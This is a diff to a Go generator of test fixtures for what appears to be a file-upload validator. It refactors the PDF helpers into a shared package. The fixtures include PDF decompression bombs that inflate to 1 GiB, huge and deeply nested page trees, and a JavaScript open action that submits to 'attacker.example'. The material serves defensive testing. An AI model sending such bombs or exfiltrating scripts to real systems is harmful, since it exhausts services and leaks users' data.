@@ -28,6 +28,8 @@ import (
 
 	"github.com/pdfcpu/pdfcpu/pkg/api"
 	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
+
+	"coffre/testdata/gen/pdfbuild"
 )
 
 // Case is one entry of expected.json.
@@ -103,11 +105,11 @@ func main() {
 	add(Case{File: "pdf-flate-bomb-image.pdf", What: "a PDF image of 1000 × 1000 whose stream, deflated twice, inflates to 1 GiB", Code: "too_large", Message: msgTooLarge},
 		imagePDF("/Width 1000 /Height 1000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]", deflate(deflateZeros(1<<30))))
 	add(Case{File: "pdf-flate-bomb-content.pdf", What: "a PDF page whose content stream, deflated twice, inflates to 1 GiB", Code: "too_large", Message: msgTooLarge},
-		buildPDF(
+		pdfbuild.Build(
 			[]byte("<< /Type /Catalog /Pages 2 0 R >>"),
 			[]byte("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
 			[]byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"),
-			stream("/Filter [/FlateDecode /FlateDecode]", deflate(deflateZeros(1<<30)))))
+			pdfbuild.Stream("/Filter [/FlateDecode /FlateDecode]", deflate(deflateZeros(1<<30)))))
 	add(Case{File: "pdf-100000-pages.pdf", What: "a PDF whose page tree claims /Count 100000", Code: "too_large", Message: msgPages}, manyPages(1, 100000))
 	add(Case{File: "pdf-25-pages.pdf", What: "a PDF of 25 real pages, over the 20-page budget", Code: "too_large", Message: msgPages}, manyPages(25, 25))
 	add(Case{File: "pdf-deep-nesting.pdf", What: "a PDF whose page holds an array nested 100,000 deep: parsed without recursion, read as one blank page", Mime: "application/pdf"}, deepPDF(100000))
@@ -368,26 +370,6 @@ func webpBomb(w, h uint32) []byte {
 	return append(out, body...)
 }
 
-// buildPDF writes objects 1..n (1 is the catalog) with a correct xref.
-func buildPDF(objs ...[]byte) []byte {
-	out := []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
-	var offs []int
-	for i, o := range objs {
-		offs = append(offs, len(out))
-		out = fmt.Appendf(out, "%d 0 obj\n%s\nendobj\n", i+1, o)
-	}
-	xref := len(out)
-	out = fmt.Appendf(out, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
-	for _, off := range offs {
-		out = fmt.Appendf(out, "%010d 00000 n \n", off)
-	}
-	return fmt.Appendf(out, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
-}
-
-func stream(dict string, data []byte) []byte {
-	return fmt.Appendf(nil, "<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
-}
-
 // textPagePDF is a one-page born-digital avis; catalogExtra goes in the
 // catalog, and object 5 is a JavaScript action the page also runs on open.
 func textPagePDF(catalogExtra string) []byte {
@@ -396,23 +378,23 @@ func textPagePDF(catalogExtra string) []byte {
 	if catalogExtra != "" {
 		aa = " /AA << /O 5 0 R >>"
 	}
-	return buildPDF(
+	return pdfbuild.Build(
 		[]byte("<< /Type /Catalog /Pages 2 0 R "+catalogExtra+" >>"),
 		[]byte("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
 		[]byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Contents 4 0 R"+aa+" >>"),
-		stream("", []byte(content)),
+		pdfbuild.Stream("", []byte(content)),
 		[]byte("<< /Type /Action /S /JavaScript /JS (app.alert\\('coffre'\\); this.submitForm\\('http://attacker.example/'\\);) >>"),
 	)
 }
 
 // imagePDF is a one-page PDF drawing one image XObject.
 func imagePDF(imageDict string, data []byte) []byte {
-	return buildPDF(
+	return pdfbuild.Build(
 		[]byte("<< /Type /Catalog /Pages 2 0 R >>"),
 		[]byte("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
 		[]byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>"),
-		stream("", []byte("q 500 0 0 700 40 60 cm /Im1 Do Q")),
-		stream("/Type /XObject /Subtype /Image "+imageDict, data),
+		pdfbuild.Stream("", []byte("q 500 0 0 700 40 60 cm /Im1 Do Q")),
+		pdfbuild.Stream("/Type /XObject /Subtype /Image "+imageDict, data),
 	)
 }
 
@@ -425,13 +407,13 @@ func manyPages(n, count int) []byte {
 		objs = append(objs, []byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"))
 	}
 	objs[1] = fmt.Appendf(nil, "<< /Type /Pages /Kids [%s] /Count %d >>", kids, count)
-	return buildPDF(objs...)
+	return pdfbuild.Build(objs...)
 }
 
 // deepPDF nests depth arrays in the page dictionary.
 func deepPDF(depth int) []byte {
 	deep := strings.Repeat("[", depth) + strings.Repeat("]", depth)
-	return buildPDF(
+	return pdfbuild.Build(
 		[]byte("<< /Type /Catalog /Pages 2 0 R >>"),
 		[]byte("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
 		[]byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Deep "+deep+" >>"),
@@ -449,7 +431,7 @@ func deepPageTree(depth int) []byte {
 		objs = append(objs, fmt.Appendf(nil, "<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>", parent, n+1))
 	}
 	objs = append(objs, fmt.Appendf(nil, "<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>", depth+1))
-	return buildPDF(objs...)
+	return pdfbuild.Build(objs...)
 }
 
 // xrefLoop adds /Prev pointing to the file's own xref section.
